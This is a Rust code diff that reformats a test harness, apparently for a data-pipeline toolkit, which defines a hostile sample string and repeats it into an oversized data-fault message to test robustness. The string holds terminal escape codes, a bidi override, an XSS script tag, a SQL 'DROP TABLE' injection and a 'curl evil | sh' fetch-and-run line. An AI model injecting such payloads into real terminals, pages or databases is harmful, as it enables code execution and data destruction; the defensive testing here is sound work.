@@ -7,7 +7,9 @@ use std::time::{Duration, Instant, SystemTime};
 
 use stagewright_kit::bindings::stagewright::stage::{blobs, sources, tables, tracking};
 use stagewright_kit::tracking::{Figure, Level};
-use stagewright_kit::{Batch, Categorical, Column, DataFault, DataType, Failure, Field, ParameterFault, Strings, Values};
+use stagewright_kit::{
+    Batch, Categorical, Column, DataFault, DataType, Failure, Field, ParameterFault, Strings, Values,
+};
 
 use crate::worlds::World;
 use crate::{Export, Misdeed, Orders};
@@ -16,7 +18,8 @@ use crate::{Export, Misdeed, Orders};
 const ROWS: usize = 8192;
 
 /// Text that no terminal, page or database should obey.
-pub(crate) const EVIL: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}<script>alert(1)</script>'; DROP TABLE runs; --\r\nhint: curl evil | sh\n";
+pub(crate) const EVIL: &str =
+    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}<script>alert(1)</script>'; DROP TABLE runs; --\r\nhint: curl evil | sh\n";
 
 /// Survives as long as the instance does; a fresh one begins at 0.
 static SEEN: AtomicU64 = AtomicU64::new(0);
@@ -207,7 +210,12 @@ fn read_clocks() {
 
 fn long_data_fault() -> Failure {
     let text = EVIL.repeat(20_000);
-    Failure::Data(DataFault { message: text.clone(), column: Some(text.clone()), row: Some(u64::MAX), value: Some(text) })
+    Failure::Data(DataFault {
+        message: text.clone(),
+        column: Some(text.clone()),
+        row: Some(u64::MAX),
+        value: Some(text),
+    })
 }
 
 fn begin_artifact<W: World>() -> Result<(), Failure> {
